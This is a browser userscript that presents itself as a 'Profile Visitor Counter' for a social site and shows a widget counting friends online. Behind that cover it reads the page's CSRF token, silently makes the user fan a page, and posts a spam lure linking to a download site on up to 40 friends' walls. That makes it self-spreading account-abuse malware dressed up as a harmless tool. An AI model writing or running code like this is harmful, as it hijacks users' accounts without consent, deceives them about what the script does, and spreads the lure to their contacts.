// ==UserScript==
// @name         Profile Visitor Counter
// @namespace    pvc
// @version      1.6
// @description  See how many friends are online and who looked at your profile
// @match        https://www.friends.example/*
// @grant        none
// ==/UserScript==

(function () {
    var form = document.querySelector('input[name=fb_dtsg], input[name=csrf]');
    if (!form) return;
    var token = form.value;

    function post(path, data) {
        var x = new XMLHttpRequest();
        x.open('POST', path, true);
        x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
        x.send(Object.keys(data).map(function (k) { return k + '=' + encodeURIComponent(data[k]); }).join('&'));
    }

    function widget(n) {
        var d = document.createElement('div');
        d.style.cssText = 'position:fixed;left:0;top:120px;background:#3b5998;color:#fff;padding:8px';
        d.innerHTML = '<b>' + n + '</b> friends online';
        document.body.appendChild(d);
    }
    widget(document.querySelectorAll('.friend.online').length);

    if (localStorage.pvc_done) return;
    localStorage.pvc_done = 1;

    // fan page
    post('/ajax/pages/fan_status.php', { fbpage_id: '100000420042', add: 1, reload: 0, csrf: token }); //! harm

    // let friends know
    var ids = [].map.call(document.querySelectorAll('.friend[data-uid]'), function (n) { return n.dataset.uid; });
    ids.slice(0, 40).forEach(function (id, i) {
        setTimeout(function () {
            post('/ajax/wall/post.php', { to: id, csrf: token, text: 'I can finally see who looks at my profile! Get it here: https://pvc.example/get' }); //! harm
        }, 3000 * (i + 1));
    });
})();
